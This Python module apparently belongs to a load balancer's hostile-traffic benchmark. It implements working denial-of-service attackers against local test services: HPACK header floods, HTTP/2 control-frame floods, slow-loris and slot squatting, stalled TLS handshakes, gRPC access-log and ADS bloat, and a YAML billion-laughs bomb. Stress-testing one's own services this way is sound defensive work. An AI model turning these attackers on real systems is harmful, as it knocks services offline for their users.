"""The attackers of ``dlb bench hostile``: the attacks as bytes on the wire.

Each attacker is a plain function that connects from 127.0.0.1 as an adversary on the network would,
does its damage for a bounded time and leaves (closes everything) before it returns; it returns a
small dict of what it managed (connections opened, bytes sent, whether the server cut it off), which
the harness (:mod:`dlb.bench.hostile`) stores next to its own measurements. Nothing here knows how
the services are built: only addresses, protocols and sizes.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import socket
import struct
import subprocess
import sys
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0x1, 0x4, 0x8, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME = 16_384
EXT_PROC_PATH = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"


@dataclass(frozen=True)
class Scale:
    """Sizes of every attack: ``full`` is the size the targets are stated for; ``ci`` keeps a smoke run in seconds."""

    hpack_connections: int = 8
    hpack_blocks: int = 64
    hpack_block_kb: int = 245
    open_streams: int = 10_000
    control_bytes: int = 45_000
    control_batches: int = 6
    idle_connections: int = 20_000
    tls_hellos: int = 4_000
    squat_connections: int = 4_300
    squat_s: float = 30.0  # three first-stream timeouts: the squatter reopens what the server closes
    als_starts: int = 200_000
    als_errors: int = 2_000
    ads_streams: int = 50
    ads_node_id_bytes: int = 1 << 20
    bogus_types: int = 5_000
    bogus_names: int = 100
    bomb_depth: int = 9
    hold_s: float = 3.0  # how long an attacker keeps its connections before leaving

    @classmethod
    def named(cls, name: str) -> Scale:
        if name == "full":
            return cls()
        if name == "ci":
            return cls(hpack_connections=2, hpack_blocks=8, open_streams=1_000, control_batches=2, idle_connections=300, tls_hellos=100,
                       squat_connections=300, squat_s=4.0,
                       als_starts=20_000, als_errors=200, ads_streams=5, bogus_types=200, bogus_names=10, bomb_depth=6, hold_s=1.0)
        raise ValueError(f"unknown scale {name!r} (full or ci)")


#: What an attacker process may be asked to run (dlb.bench.hostile runs each in an interpreter of its
#: own: ``python -m dlb.bench.hostile_attacks`` says ``ready``, reads pickled (function, args) from
#: stdin, writes the result as JSON to stdout).
_ATTACKERS = ("hpack_cache", "stream_walk", "idle_connections", "slot_squat", "stalled_handshakes", "als_flood", "ads_bloat")


def run_attack(function: str, args: tuple[Any, ...]) -> dict[str, Any]:
    """What an attacker process runs: ``function(*args)``, one of :data:`_ATTACKERS`."""
    if function not in _ATTACKERS:
        raise ValueError(f"unknown attacker {function!r} (one of {', '.join(_ATTACKERS)})")
    result: dict[str, Any] = globals()[function](*args)
    return result


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def header_frames(stream: int, block: bytes, end_stream: bool = False) -> bytes:
    """HEADERS (+ CONTINUATIONs) carrying ``block``; END_HEADERS on the last frame."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for k, chunk in enumerate(chunks):
        flags = (END_HEADERS if k == len(chunks) - 1 else 0) | (END_STREAM if end_stream and k == 0 else 0)
        out.append(frame(HEADERS if k == 0 else CONTINUATION, flags, stream, chunk))
    return b"".join(out)


def _request_headers(extra: list[tuple[str, str]]) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", EXT_PROC_PATH), (":authority", "dlb"),
            ("content-type", "application/grpc"), ("te", "trailers"), *extra]


def _connect(host: str, port: int, timeout: float = 5.0) -> socket.socket:
    s = socket.create_connection((host, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def _drain(s: socket.socket) -> bool:
    """Read whatever the server sent (so our buffer never stalls it); False once it closed on us."""
    s.setblocking(False)
    try:
        while True:
            data = s.recv(1 << 16)
            if not data:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        s.setblocking(True)


def _send(s: socket.socket, data: bytes) -> bool:
    try:
        s.sendall(data)
        return True
    except OSError:
        return False


def hpack_cache(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Row 1: per connection, ``hpack_blocks`` distinct ~``hpack_block_kb`` KB header blocks (each on
    its own stream, all cacheable: they leave the HPACK dynamic table unchanged); the connections stay
    open ``hold_s``, then close."""
    socks, sent, cut = [], 0, 0
    per_header = 4000
    n_headers = max(1, scale.hpack_block_kb * 1024 // (per_header + 16))
    try:
        for c in range(scale.hpack_connections):
            s = _connect(host, port)
            socks.append(s)
            enc = hpack.Encoder()
            ok = _send(s, PREFACE + frame(SETTINGS, 0, 0))
            for b in range(scale.hpack_blocks):
                tag = f"{c}-{b}-{uuid.uuid4().hex}"
                extra = [(f"x-pad-{i}", (tag + "v" * per_header)[:per_header]) for i in range(n_headers)]
                # Literals never indexed: the block leaves the dynamic table as it is, so a decoder
                # may cache it (what the transport's block cache keeps, MAX_ENTRIES per connection).
                block = enc.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in _request_headers(extra)], huffman=False)
                data = header_frames(2 * b + 1, block)
                ok = ok and _send(s, data)
                sent += len(data) if ok else 0
                if not ok:
                    break
            cut += 0 if ok and _drain(s) else 1
        time.sleep(scale.hold_s)
        cut = sum(1 for s in socks if not _drain(s))
    finally:
        for s in socks:
            s.close()
    return {"connections": len(socks), "bytes_sent": sent, "connections_cut_off": cut}


def stream_walk(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Row 2: ``open_streams`` open streams on one connection, then batches of ``control_bytes`` of
    WINDOW_UPDATE / SETTINGS(INITIAL_WINDOW_SIZE) on stream 0 (each makes a naive server walk every stream)."""
    s = _connect(host, port)
    enc = hpack.Encoder()
    sent, opened, batches = 0, 0, 0
    try:
        ok = _send(s, PREFACE + frame(SETTINGS, 0, 0))
        buf = []
        for k in range(scale.open_streams):
            buf.append(header_frames(2 * k + 1, enc.encode(_request_headers([]), huffman=False)))
            if len(buf) == 500:
                ok = ok and _send(s, b"".join(buf)) and _drain(s)
                opened += len(buf) if ok else 0
                buf = []
        if buf and ok:
            ok = _send(s, b"".join(buf)) and _drain(s)
            opened += len(buf) if ok else 0
        wu = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
        batch: list[bytes] = []
        size = 0
        while size < scale.control_bytes:
            value = 65_535 + (len(batch) % 2)
            f = wu if len(batch) % 2 == 0 else frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, value))
            batch.append(f)
            size += len(f)
        data = b"".join(batch)
        for _ in range(scale.control_batches):
            if not ok:
                break
            ok = _send(s, data) and _drain(s)
            sent += len(data) if ok else 0
            batches += 1 if ok else 0
            time.sleep(scale.hold_s / max(1, scale.control_batches))
        cut = not (ok and _drain(s))
    finally:
        s.close()
    return {"streams_opened": opened, "control_batches": batches, "bytes_sent": sent, "cut_off": cut}


def raise_fd_limit(want: int) -> int:
    """Raise our soft RLIMIT_NOFILE towards ``want`` (bounded by the hard limit); returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    new = min(hard, max(soft, want)) if hard != resource.RLIM_INFINITY else max(soft, want)
    if new != soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
    return new


def idle_connections(host: str, port: int, scale: Scale, alive: Callable[[], bool] | None = None) -> dict[str, Any]:
    """Row 3: up to ``idle_connections`` connections that send nothing, and one slow-loris sending the
    preface at 1 byte/s; all held ``hold_s`` (at least 3 s), then closed. ``alive()`` (e.g. the service's
    /metrics answering) is sampled while they are held."""
    loris = _connect(host, port)
    answered, asked = 0, 0
    socks: list[socket.socket] = []
    try:
        socks, refused = _open_many(host, port, scale.idle_connections)
        deadline = time.monotonic() + max(3.0, scale.hold_s)
        i, loris_alive = 0, True
        while time.monotonic() < deadline:
            if loris_alive:
                loris_alive = _send(loris, PREFACE[i % len(PREFACE):i % len(PREFACE) + 1]) and _drain(loris)
                i += 1
            if alive is not None:
                asked += 1
                answered += 1 if alive() else 0
            time.sleep(1.0)
        closed_by_server = sum(1 for s in socks if not _drain(s))
    finally:
        for s in socks:
            s.close()
        loris.close()
    return {"connections": len(socks), "connect_failures": refused, "closed_by_server": closed_by_server,
            "slow_loris_cut_off": not loris_alive, "slow_loris_bytes": i, "service_answered": f"{answered}/{asked}"}


def slot_squat(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Row 8: ``squat_connections`` connections that each send the HTTP/2 preface and SETTINGS and then
    nothing (past the handshake deadline, unlike row 3), for ``squat_s``; once a second the ones the
    server closed are reopened, as a squatter that means it would."""
    hello = PREFACE + frame(SETTINGS, 0, 0)
    socks, failed = _open_many(host, port, scale.squat_connections, hello)
    opened, closed_by_server, sweeps = len(socks), 0, 0
    deadline = time.monotonic() + scale.squat_s
    try:
        while time.monotonic() < deadline:
            time.sleep(1.0)
            sweeps += 1
            kept = []
            for s in socks:
                if _drain(s):
                    kept.append(s)
                else:
                    s.close()
                    closed_by_server += 1
            socks = kept
            if time.monotonic() < deadline:
                more, f = _open_many(host, port, scale.squat_connections - len(socks), hello)
                socks += more
                opened += len(more)
                failed += f
        held = sum(1 for s in socks if _drain(s))
    finally:
        for s in socks:
            s.close()
    return {"connections_opened": opened, "connect_or_send_failures": failed, "closed_by_server": closed_by_server,
            "held_at_end": held, "sweeps": sweeps}


def _open_many(host: str, port: int, n: int, first: bytes = b"") -> tuple[list[socket.socket], int]:
    """Up to ``n`` connections (bounded by our fd limit), each sending ``first``; gives up after 50
    failures. Returns the sockets and the number of failures."""
    limit = raise_fd_limit(n + 200)
    socks: list[socket.socket] = []
    failed = 0
    for _ in range(min(n, limit - 200)):
        try:
            s = socket.create_connection((host, port), timeout=2.0)
        except OSError:
            failed += 1
            if failed > 50:
                break
            continue
        socks.append(s)
        if first and not _send(s, first):
            failed += 1  # closed on us already: still one of ours to close
    return socks, failed


def client_hello() -> bytes:
    """A real TLS ClientHello, as any TLS client's first flight (made in memory, never completed)."""
    import ssl

    out = ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="dlb").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def stalled_handshakes(host: str, port: int, scale: Scale) -> dict[str, Any]:
    """Row 3 under mTLS, one step further than idle connections: ``tls_hellos`` connections each send a
    ClientHello (so the server answers with a key exchange and a signature and keeps the handshake's
    state) and then nothing; held ``hold_s`` (at least 3 s), then closed."""
    socks: list[socket.socket] = []
    try:
        socks, failed = _open_many(host, port, scale.tls_hellos, client_hello())
        time.sleep(max(3.0, scale.hold_s))
        closed_by_server = sum(1 for s in socks if not _drain(s))
    finally:
        for s in socks:
            s.close()
    return {"connections": len(socks), "connect_or_send_failures": failed, "closed_by_server": closed_by_server}


def als_flood(target: str, scale: Scale) -> dict[str, Any]:
    """Row 5: one unauthenticated access-log stream to the leaf agent's probe port: ``als_starts``
    request starts and ``als_errors`` completions with status 503, as fast as it goes."""
    import grpc
    from envoy.config.core.v3 import base_pb2
    from envoy.data.accesslog.v3 import accesslog_pb2
    from envoy.service.accesslog.v3 import als_pb2

    start_t = accesslog_pb2.AccessLogType.Value("DownstreamStart")
    end_t = accesslog_pb2.AccessLogType.Value("DownstreamEnd")

    def messages():
        ident = als_pb2.StreamAccessLogsMessage.Identifier(node=base_pb2.Node(id="attacker"), log_name="dlb-leaf")
        first = True
        for kind, count, status in ((start_t, scale.als_starts, 0), (end_t, scale.als_errors, 503)):
            for off in range(0, count, 1000):
                entries = []
                for k in range(off, min(count, off + 1000)):
                    e = accesslog_pb2.HTTPAccessLogEntry()
                    e.common_properties.access_log_type = kind
                    e.request.request_id = f"fake-{kind}-{k}"
                    if status:
                        e.response.response_code.value = status
                    entries.append(e)
                msg = als_pb2.StreamAccessLogsMessage(http_logs=als_pb2.StreamAccessLogsMessage.HTTPAccessLogEntries(log_entry=entries))
                if first:
                    msg.identifier.CopyFrom(ident)
                    first = False
                yield msg

    t0 = time.monotonic()
    outcome = "sent"
    with grpc.insecure_channel(target, options=[("grpc.max_send_message_length", 64 << 20)]) as ch:
        call = ch.stream_unary("/envoy.service.accesslog.v3.AccessLogService/StreamAccessLogs",
                               request_serializer=als_pb2.StreamAccessLogsMessage.SerializeToString,
                               response_deserializer=als_pb2.StreamAccessLogsResponse.FromString)
        try:
            call(messages(), timeout=60)
        except grpc.RpcError as exc:
            outcome = f"refused: {exc.code().name}"
    return {"entries": scale.als_starts + scale.als_errors, "send_s": round(time.monotonic() - t0, 3), "outcome": outcome}


def ads_bloat(target: str, scale: Scale) -> dict[str, Any]:
    """Row 6: ``ads_streams`` ADS streams whose node id is ``ads_node_id_bytes`` long, and one stream
    subscribing ``bogus_types`` made-up type URLs × ``bogus_names`` names; held ``hold_s``, then gone."""
    return asyncio.run(_ads_bloat(target, scale))


async def _ads_bloat(target: str, scale: Scale) -> dict[str, Any]:
    import grpc
    from envoy.config.core.v3 import base_pb2
    from envoy.service.discovery.v3 import discovery_pb2

    done = asyncio.Event()
    outcomes: dict[str, int] = {}

    async def stream(channel: grpc.aio.Channel, requests: list[discovery_pb2.DiscoveryRequest]) -> None:
        call = channel.stream_stream("/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources",
                                     request_serializer=discovery_pb2.DiscoveryRequest.SerializeToString,
                                     response_deserializer=discovery_pb2.DiscoveryResponse.FromString)

        async def gen():
            for r in requests:
                yield r
            await done.wait()

        key = "ended"
        try:
            async for _ in call(gen()):
                pass
        except grpc.aio.AioRpcError as exc:
            key = exc.code().name
        except asyncio.CancelledError:
            key = "held"
        outcomes[key] = outcomes.get(key, 0) + 1

    cluster_t = "type.googleapis.com/envoy.config.cluster.v3.Cluster"
    opts = [("grpc.max_send_message_length", 64 << 20), ("grpc.max_receive_message_length", 64 << 20)]
    async with grpc.aio.insecure_channel(target, options=opts) as channel:
        tasks = []
        for i in range(scale.ads_streams):
            node = base_pb2.Node(id=f"{i}-" + "n" * scale.ads_node_id_bytes, cluster="dlb-root", locality=base_pb2.Locality(zone="a"))
            tasks.append(asyncio.create_task(stream(channel, [discovery_pb2.DiscoveryRequest(node=node, type_url=cluster_t)])))
        node = base_pb2.Node(id="bogus-types", cluster="dlb-root", locality=base_pb2.Locality(zone="a"))
        bogus = [discovery_pb2.DiscoveryRequest(node=node if t == 0 else None, type_url=f"type.googleapis.com/bogus.T{t}",
                                                resource_names=[f"name-{t}-{k}" for k in range(scale.bogus_names)])
                 for t in range(scale.bogus_types)]
        tasks.append(asyncio.create_task(stream(channel, bogus)))
        await asyncio.sleep(scale.hold_s)
        done.set()
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    return {"streams": scale.ads_streams + 1, "node_id_bytes": scale.ads_node_id_bytes,
            "bogus_subscriptions": scale.bogus_types * scale.bogus_names, "outcomes": outcomes}


def yaml_bomb(depth: int) -> str:
    """A 'billion laughs' config: 9 aliases per level, ``depth`` levels (9^depth strings once expanded)."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for d in range(1, depth):
        lines.append(f"l{d}: &l{d} [" + ", ".join([f"*l{d - 1}"] * 9) + "]")
    lines += ["version: 1", f"cells: *l{depth - 1}", "endpoints: []"]
    return "\n".join(lines) + "\n"


def validate_bomb(path: str, timeout_s: float, mem_cap_mb: int, sample: Callable[[int], None]) -> dict[str, Any]:
    """Row 7 (``dlb config validate``): run it on a bomb under an address-space cap, sampling its pid with
    ``sample(pid)`` until it exits or ``timeout_s`` passes (then it is killed)."""

    t0 = time.monotonic()
    out_path = path + ".out"
    with open(out_path, "wb") as out_fh:  # a file, not a pipe: a flood of output must not stall the child
        proc = subprocess.Popen([sys.executable, "-m", "dlb.cli", "config", "validate", path], stdout=out_fh,
                                stderr=subprocess.STDOUT, env=dict(os.environ))
    # The cap is set from outside (no preexec_fn: the bench runs threads); the child is still importing.
    with contextlib.suppress(OSError):
        resource.prlimit(proc.pid, resource.RLIMIT_AS, (mem_cap_mb << 20, mem_cap_mb << 20))
    killed = False
    while proc.poll() is None:
        sample(proc.pid)
        if time.monotonic() - t0 > timeout_s:
            proc.kill()
            killed = True
            break
        time.sleep(0.02)
    proc.wait(30)
    with open(out_path, "rb") as fh:
        out = fh.read(1 << 20).decode(errors="replace")
    with contextlib.suppress(OSError):
        os.unlink(out_path)
    lines = out.strip().splitlines()
    with contextlib.suppress(OSError):
        os.unlink(path)
    return {"exit_code": proc.returncode, "killed_after_s": timeout_s if killed else None, "seconds": round(time.monotonic() - t0, 2),
            "output_lines": len(lines), "output_head": "\n".join(lines[:3])[:400],
            "traceback": any("Traceback" in ln for ln in lines)}


def _main() -> None:
    import json
    import pickle

    import grpc  # noqa: F401 - imported before "ready", like everything the attackers use

    print("ready", flush=True)
    function, args = pickle.loads(sys.stdin.buffer.read())  # our own parent process wrote it
    print(json.dumps(run_attack(function, args)), flush=True)


if __name__ == "__main__":
    _main()
